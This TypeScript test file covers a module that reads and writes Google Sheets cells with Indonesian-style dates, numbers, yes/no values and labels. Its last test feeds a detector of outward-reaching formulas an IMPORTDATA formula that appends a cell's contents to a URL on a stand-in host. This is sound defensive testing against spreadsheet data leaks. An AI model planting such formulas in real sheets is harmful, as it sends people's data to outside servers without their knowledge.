import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import type { ColumnType } from '../layout/tab-layout.js'
import { readCell, sendingFunctions } from './read-cell.js'
import { showValue } from './show-value.js'
import type { WireCell } from './wire-cell.js'

const column = (type: ColumnType, choices?: Record<string, string>) => ({
  type,
  choices: choices && new Map(Object.entries(choices)),
})
const typed = (value: string | number | boolean): WireCell => ({
  userEnteredValue:
    typeof value === 'string'
      ? { stringValue: value }
      : typeof value === 'number'
        ? { numberValue: value }
        : { boolValue: value },
})
const dated = (serial: number): WireCell => ({
  userEnteredValue: { numberValue: serial },
  effectiveFormat: { numberFormat: { type: 'DATE' } },
})
const status = column('text', { enrolled: 'Terdaftar', 'on-hold': 'Ditunda' })

describe('what a person types', () => {
  const accepted: readonly (readonly [string, WireCell, ReturnType<typeof column>, unknown])[] = [
    ['text with spaces around it', typed(' Budi\u00a0Santoso\u200b '), column('text'), 'Budi Santoso'],
    ['digits as text', typed('0001'), column('text'), '0001'],
    ['a date as Sheets keeps it', dated(45890), column('day'), '2025-08-21'],
    ['a date with a time of day', dated(45890.75), column('day'), '2025-08-21'],
    ['a date that lost its format', typed(45890), column('day'), '2025-08-21'],
    ['a date in words, with its weekday', typed('Kamis (21/8/2025)'), column('day'), '2025-08-21'],
    ['a decimal comma', typed('1.234,5'), column('number'), 1234.5],
    ['thousands twice over', typed('1.234.567'), column('number'), 1_234_567],
    ['a number below zero', typed('-7'), column('number'), -7],
    ['a number', typed(12.5), column('number'), 12.5],
    ['ya', typed('YA'), column('boolean'), true],
    ['a tick', typed('✓'), column('boolean'), true],
    ['tidak', typed('tdk.'), column('boolean'), false],
    ['a checkbox', typed(false), column('boolean'), false],
    ['a label', typed('ditunda '), status, 'on-hold'],
    ['a value itself', typed('enrolled'), status, 'enrolled'],
    ['nothing', {}, column('number'), null],
    ['blanks', typed('  '), column('day'), null],
    [
      'a formula, as what it comes to',
      { userEnteredValue: { formulaValue: '=1+1' }, effectiveValue: { numberValue: 2 } },
      column('number'),
      2,
    ],
  ]
  it.each(accepted)('reads %s', (_, cell, of, value) => {
    expect(readCell(cell, of)).toEqual({ ok: true, value })
  })

  const refused: readonly (readonly [string, WireCell, ReturnType<typeof column>, string])[] = [
    ['a NIK typed as a number', typed(3171234567890123), column('text'), 'typed-as-number'],
    ['a register number that became a date', dated(45890), column('text'), 'typed-as-date'],
    ['a date where a number should be', dated(45890), column('number'), 'typed-as-date'],
    ['a day that is not in the calendar', typed('31/2/2025'), column('day'), 'impossible-day'],
    ['a weekday that is another', typed('Senin (21/8/2025)'), column('day'), 'weekday-mismatch'],
    ['a number too small for a day', typed(29_999), column('day'), 'not-a-day'],
    ['a number too large for a day', typed(60_000), column('day'), 'not-a-day'],
    ['thousands or a fraction', typed('1.500'), column('number'), 'ambiguous-number'],
    ['words for a number', typed('dua'), column('number'), 'not-a-number'],
    ['maybe', typed('mungkin'), column('boolean'), 'not-yes-or-no'],
    ['another choice', typed('Hadir'), status, 'not-a-choice'],
    [
      'an error',
      {
        userEnteredValue: { formulaValue: '=A0' },
        effectiveValue: { errorValue: { type: 'REF', message: '#REF!' } },
      },
      column('text'),
      'cell-error',
    ],
    [
      'a formula that loads',
      {
        userEnteredValue: { formulaValue: '=X' },
        effectiveValue: { errorValue: { type: 'LOADING' } },
      },
      column('text'),
      'cell-loading',
    ],
  ]
  it.each(refused)('asks about %s', (_, cell, of, code) => {
    expect(readCell(cell, of)).toMatchObject({ ok: false, code })
  })
})

describe('what is shown', () => {
  it('is never read as something else: text stays text', () => {
    for (const text of ['=SUM(A1)', '+62811', '0001', '21/8/2025', 'TRUE'])
      expect(showValue(text, column('text'))).toEqual({ stringValue: text })
  })

  it('is read as what it was', () => {
    const day = fc
      .date({ min: new Date('1900-01-01'), max: new Date('2199-12-31'), noInvalidDate: true })
      .map((date) => date.toISOString().slice(0, 10))
    const cases = fc.oneof(
      fc.record({ value: day, type: fc.constant('day' as const) }),
      fc.record({ value: fc.boolean(), type: fc.constant('boolean' as const) }),
      fc.record({ value: fc.double({ noNaN: true }), type: fc.constant('number' as const) }),
    )
    fc.assert(
      fc.property(cases, ({ value, type }) => {
        const shown = showValue(value, column(type))
        const cell = {
          userEnteredValue: shown!,
          ...(type === 'day' && { effectiveFormat: { numberFormat: { type: 'DATE' } } }),
        }
        expect(readCell(cell, column(type))).toEqual({ ok: true, value })
      }),
    )
  })

  it('leaves out what no cell holds for sure', () => {
    expect(showValue('a\u0001b\r\nc\u2028', column('text'))).toEqual({ stringValue: 'ab\nc' })
    expect(showValue('\u0001', column('text'))).toBeUndefined()
    expect(showValue('x'.repeat(50_000), column('text'))?.stringValue).toHaveLength(40_001)
  })

  it('shows nothing for what is not known', () => {
    for (const value of [undefined, null, '']) expect(showValue(value, column('text'))).toBeUndefined()
  })

  it('shows a day before the first one of spreadsheets as text', () => {
    expect(showValue('1899-12-30', column('day'))).toEqual({ stringValue: '1899-12-30' })
    expect(showValue('1899-12-31', column('day'))).toEqual({ numberValue: 1 })
  })
})

it('names the functions of a formula that reach out, but not words in its text', () => {
  const formula = (formulaValue: string): WireCell => ({ userEnteredValue: { formulaValue } })
  expect(sendingFunctions(formula('=importdata("https://x.test/?"&B2)&IMAGE(A1)'))).toEqual([
    'IMPORTDATA',
    'IMAGE',
  ])
  expect(sendingFunctions(formula('="IMAGE("&SUM(A1:A2)'))).toEqual([])
  expect(sendingFunctions({ userEnteredValue: { stringValue: '=IMAGE(A1)' } })).toEqual([])
})
